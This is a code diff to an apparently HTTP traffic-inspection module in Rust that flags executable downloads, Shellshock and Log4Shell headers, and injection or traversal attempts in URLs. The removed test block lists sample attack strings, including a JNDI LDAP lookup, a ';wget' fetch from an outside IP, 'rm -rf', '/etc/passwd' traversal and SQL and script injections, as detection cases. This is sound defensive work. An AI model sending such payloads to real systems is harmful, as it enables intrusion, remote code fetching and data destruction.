@@ -29,7 +29,7 @@ pub(super) fn of_answer(http: &HttpInfo, body: &[u8]) -> StatusBits {
     let kind = http.content_type.split(';').next().unwrap_or_default().trim();
     let program = is_program(body);
     let announced = PROGRAM_TYPES.iter().any(|known| kind.eq_ignore_ascii_case(known));
-    let named = http.status == 200 && PROGRAM_ENDINGS.iter().any(|ending| path_ends_with(&http.url, ending));
+    let named = http.status == 200 && names_program(&http.url);
     // A page that says why there is no such program is none.
     let page = kind.get(..5).is_some_and(|head| head.eq_ignore_ascii_case("text/"));
     set(FlowStatus::ExecutableTransfer, program || http.status == 200 && announced || named && !page);
@@ -41,6 +41,9 @@ pub(super) fn of_answer(http: &HttpInfo, body: &[u8]) -> StatusBits {
 
 /// Bits of a header's value, whatever its name.
 pub(super) fn of_value(value: &[u8]) -> StatusBits {
+    if memchr::memchr2(b'$', b'(', value).is_none() {
+        return 0;
+    }
     let jndi = || memchr::memmem::find(value, b"${").is_some() && IN_VALUES.bits(value) != 0;
     let exploit = find(value, b"() {") || jndi();
     if exploit { FlowStatus::PossibleExploit.bit() | FlowStatus::HttpSuspiciousHeader.bit() } else { 0 }
@@ -52,20 +55,28 @@ pub(super) fn is_odd_name(name: &[u8]) -> bool {
 }
 
 static IS_TOKEN: [bool; 256] = {
-    let mut table = [false; 256];
+    let mut table = listed(b"!#$%&'*+-.^_`|~");
     let mut byte = 0;
     while byte < 256 {
-        table[byte] = (byte as u8).is_ascii_alphanumeric();
+        table[byte] |= (byte as u8).is_ascii_alphanumeric();
         byte += 1;
-    }
-    let others = b"!#$%&'*+-.^_`|~";
-    let mut at = 0;
-    while at < others.len() {
-        table[others[at] as usize] = true;
-        at += 1;
     }
     table
 };
+
+/// Characters without which a target can be nothing but a plain one.
+static IS_TELLING: [bool; 256] = listed(b"%<>'\"();|$`{\\ ");
+
+/// A table that says of every byte whether it is one of `bytes`.
+const fn listed(bytes: &[u8]) -> [bool; 256] {
+    let mut table = [false; 256];
+    let mut at = 0;
+    while at < bytes.len() {
+        table[bytes[at] as usize] = true;
+        at += 1;
+    }
+    table
+}
 
 static IN_VALUES: Words = Words::new(&[(FlowStatus::PossibleExploit, &[b"${jndi:"])]);
 
@@ -86,13 +97,20 @@ const PROGRAM_TYPES: &[&str] = &[
 
 /// Endings of programs' names.
 const PROGRAM_ENDINGS: &[&str] =
-    &[".exe", ".msi", ".dll", ".scr", ".apk", ".elf", ".com.exe", ".bat", ".ps1", ".vbs", ".hta", ".lnk"];
+    &[".exe", ".msi", ".dll", ".scr", ".apk", ".elf", ".bat", ".ps1", ".vbs", ".hta", ".lnk"];
+const LONGEST_ENDING: usize = 4;
 
-/// Whether the path of `url` ends with `ending`.
-fn path_ends_with(url: &str, ending: &str) -> bool {
-    let path = url.split(['?', '#']).next().unwrap_or_default();
-    let tail = path.len().checked_sub(ending.len()).and_then(|at| path.get(at..));
-    tail.is_some_and(|tail| tail.eq_ignore_ascii_case(ending))
+/// Whether the path of `url` ends as a program's name does.
+fn names_program(url: &str) -> bool {
+    let url = url.as_bytes();
+    let path = memchr::memchr2(b'?', b'#', url).and_then(|end| url.get(..end)).unwrap_or(url);
+    // Nearly all end otherwise: no dot there, no ending.
+    let dotted = path.iter().rev().take(LONGEST_ENDING).any(|byte| *byte == b'.');
+    let ends = |ending: &[u8]| {
+        let tail = path.len().checked_sub(ending.len()).and_then(|at| path.get(at..));
+        tail.is_some_and(|tail| tail.eq_ignore_ascii_case(ending))
+    };
+    dotted && PROGRAM_ENDINGS.iter().any(|ending| ends(ending.as_bytes()))
 }
 
 /// Whether `body` begins as a program of Windows, Unix or macOS does.
@@ -324,8 +342,7 @@ static IN_ANY: Words = Words::new(&[
 /// Bits of a request's target.
 fn of_target(target: &[u8]) -> StatusBits {
     let mut room = [0; MAX_URL];
-    let telling = |byte: &u8| b"%<>'\"();|$`{\\ ".contains(byte);
-    if !target.iter().any(telling) {
+    if !target.iter().any(|byte| IS_TELLING[usize::from(*byte)]) {
         if memchr::memchr(b'+', target).is_none() {
             return IN_PLAIN.bits(target);
         }
@@ -369,141 +386,4 @@ fn decoded<'a>(target: &[u8], room: &'a mut [u8; MAX_URL]) -> &'a [u8] {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn bits(statuses: &[FlowStatus]) -> StatusBits {
-        statuses.iter().fold(0, |bits, status| bits | status.bit())
-    }
-
-    #[test]
-    fn ordinary_targets_are_ordinary() {
-        for target in [
-            "/",
-            "/search?q=select+a+chair",
-            "/search?q=drop+the+table",
-            "/a/b.html?x=1&y=%20z",
-            "/union/station",
-            "/O%27Reilly/books",
-            "/wiki/SQL_injection",
-            "/images/photo%20(1).jpg",
-            "/article;jsessionid=AB12",
-            "/?redirect=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc",
-            "/login?user=tom&next=%2Fhome",
-            "/a/../b",
-            "/scripts/jquery-3.6.0.min.js",
-            "/p?q=rock+%26+roll+or+jazz",
-            "/api/v1/items?filter=name%3D%22bob%22",
-            "/systems(1)/overview",
-            "/c++/reference",
-        ] {
-            assert_eq!(of_target(target.as_bytes()), 0, "{target}");
-        }
-    }
-
-    #[test]
-    fn targets_of_attacks_have_their_bits() {
-        use FlowStatus::{HttpSuspiciousUrl, PossibleExploit, UrlCommandInjection, UrlSqlInjection, UrlXss};
-        let cases: &[(&str, &[FlowStatus])] = &[
-            ("/?q=<script>alert(1)</script>", &[UrlXss]),
-            ("/?q=%3CScript%3Ealert(1)%3C/script%3E", &[UrlXss]),
-            ("/?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E", &[UrlXss]),
-            ("/item?id=1%20UNION%20SELECT%20user,pass%20FROM%20users", &[UrlSqlInjection]),
-            ("/item?id=1+union+all+select+1,2,3", &[UrlSqlInjection]),
-            ("/login?u=admin'%20or%20'1'='1", &[UrlSqlInjection]),
-            ("/?x=${jndi:ldap://192.0.2.1/a}", &[PossibleExploit]),
-            ("/?cmd=;wget%20http://192.0.2.1/x", &[UrlCommandInjection]),
-            ("/?f=php://input", &[]),
-            ("/index.php?f=php%3A//input", &[UrlCommandInjection]),
-            ("/shell?cd+/tmp;rm+-rf+*", &[UrlCommandInjection, HttpSuspiciousUrl]),
-            ("/static/../../../../etc/passwd", &[HttpSuspiciousUrl]),
-            ("/%2e%2e/%2e%2e/%2e%2e/boot.ini", &[HttpSuspiciousUrl]),
-            ("/.git/config", &[HttpSuspiciousUrl]),
-            ("/.env", &[HttpSuspiciousUrl]),
-        ];
-        for (target, statuses) in cases {
-            assert_eq!(of_target(target.as_bytes()), bits(statuses), "{target}");
-        }
-    }
-
-    #[test]
-    fn agents_are_told_apart() {
-        use FlowStatus::{HttpCrawler, HttpSuspiciousUserAgent};
-        for agent in [
-            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
-            "curl/8.5.0",
-            "Wget/1.21",
-            "Debian APT-HTTP/1.3 (2.6.1)",
-            "python-requests/2.31",
-            "Abbott-Client/1.0",
-            "Go-http-client/1.1",
-        ] {
-            assert_eq!(of_agent(agent.as_bytes()), 0, "{agent}");
-        }
-        for agent in
-            ["", "x", "sqlmap/1.7", "Mozilla/5.0 zgrab/0.x", "Nikto", "<script>", "() { :; }; /bin/id"]
-        {
-            assert_eq!(of_agent(agent.as_bytes()), HttpSuspiciousUserAgent.bit(), "{agent}");
-        }
-        for agent in ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bingbot"] {
-            assert_eq!(of_agent(agent.as_bytes()), HttpCrawler.bit(), "{agent}");
-        }
-    }
-
-    #[test]
-    fn servers_grow_old() {
-        for old in
-            ["nginx/1.14.0 (Ubuntu)", "Apache/2.2.15 (CentOS)", "Microsoft-IIS/7.5", "Apache-Coyote/1.1"]
-        {
-            assert!(is_obsolete(old), "{old}");
-        }
-        for new in
-            ["nginx", "nginx/1.27.1", "Apache/2.4.62", "Apache", "Microsoft-IIS/10.0", "cloudflare", ""]
-        {
-            assert!(!is_obsolete(new), "{new}");
-        }
-    }
-
-    fn answer(content_type: &str, url: &str, body: &[u8]) -> StatusBits {
-        let http = HttpInfo {
-            content_type: content_type.into(),
-            url: url.into(),
-            status: 200,
-            ..HttpInfo::default()
-        };
-        of_answer(&http, body)
-    }
-
-    #[test]
-    fn programs_are_known_by_type_name_and_bytes() {
-        use FlowStatus::{BinaryDataTransfer, ExecutableTransfer, HttpSuspiciousContent};
-        let mut windows = vec![0; 0x80];
-        windows[..2].copy_from_slice(b"MZ");
-        windows[0x3c] = 0x40;
-        windows[0x40..0x44].copy_from_slice(b"PE\0\0");
-        assert_eq!(answer("application/x-msdownload", "/a", b""), ExecutableTransfer.bit());
-        assert_eq!(answer("application/octet-stream", "/setup.EXE?v=1", b""), ExecutableTransfer.bit());
-        let both = bits(&[ExecutableTransfer, BinaryDataTransfer]);
-        assert_eq!(answer("application/octet-stream", "/a", &windows), both);
-        assert_eq!(answer("application/octet-stream", "/a", b"\x7fELF\x02\x01\x01"), both);
-        assert_eq!(answer("image/png", "/logo.png", &windows), both | HttpSuspiciousContent.bit());
-        assert_eq!(answer("text/html", "/missing.exe", b"<html>"), 0, "a page about a program");
-        windows[0x40] = b'x';
-        assert_eq!(answer("application/octet-stream", "/a", &windows), 0, "two letters are no program");
-        assert_eq!(answer("text/plain", "/MZ", b"MZ is a magic"), 0);
-    }
-
-    #[test]
-    fn secrets_in_forms_and_exploits_in_headers_are_seen() {
-        let post = HttpInfo { method: "POST".into(), ..HttpInfo::default() };
-        let form = of_request(b"/login", &post, None, b"user=tom&Password=secret");
-        assert_eq!(form, FlowStatus::ClearTextCredentials.bit());
-        assert_eq!(of_request(b"/login", &post, None, b"user=tom&password=&x=1"), 0);
-        assert_eq!(of_request(b"/login", &post, None, b"{\"a\":1}"), 0);
-        let exploit = bits(&[FlowStatus::PossibleExploit, FlowStatus::HttpSuspiciousHeader]);
-        assert_eq!(of_value(b"() { :;}; echo"), exploit);
-        assert_eq!(of_value(b"a ${JNDI:ldap://x}"), exploit);
-        assert_eq!(of_value(b"text/html (compatible; $5)"), 0);
-        assert!(is_odd_name(b"Ho st") && is_odd_name(b"") && !is_odd_name(b"X-Forwarded-For"));
-    }
-}
+mod tests;
